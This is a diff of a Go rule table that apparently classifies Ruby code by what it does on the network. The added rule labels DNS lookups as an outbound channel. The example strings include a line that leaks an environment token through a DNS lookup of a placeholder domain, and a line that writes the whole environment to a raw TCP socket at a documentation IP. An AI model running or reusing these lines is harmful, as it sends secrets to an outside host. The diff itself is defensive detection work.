@@ -183,6 +183,9 @@ var rubyRules = [...]rule{
 		`RestClient.delete(url) => destroy:http {url}` + "\n" +
 		`stub_request(:delete, "https://api.example.com/x") !> -` + "\n" +
 		`Net::HTTP.get(URI("https://api.example.com/projects/42/delete")) !> destroy:http https://api.example.com/projects/42/delete` + "\n"},
+	// A name looked up goes to the resolver and on to the domain's name servers (a DNS channel).
+	{name: "Resolv.getaddress|Resolv.getaddresses|Resolv.getname|Addrinfo.getaddrinfo|Socket.getaddrinfo|Socket.gethostbyname|IPSocket.getaddress", do: aFetch, ex: `require "resolv"; Resolv.getaddress(ENV["TOKEN"] + ".x.example") => var:send TOKEN` + "\n" +
+		`require "resolv"; Resolv.getaddress("example.com") !> var:send TOKEN` + "\n"},
 	{name: "Net.HTTP.start|Net.HTTP.new", ret: rURL},
 	{name: "TCPSocket.new|TCPSocket.open|Socket.tcp", do: aConnect, opt: "raw", ret: rSocket, ex: `s = TCPSocket.new("203.0.113.4", 9000); s.write(ENV.to_h.to_s) => send:raw 203.0.113.4` + "\n" +
 		`s = TCPSocket.new("203.0.113.4", 9000); s.write(ENV.to_h.to_s) => env:send` + "\n" +
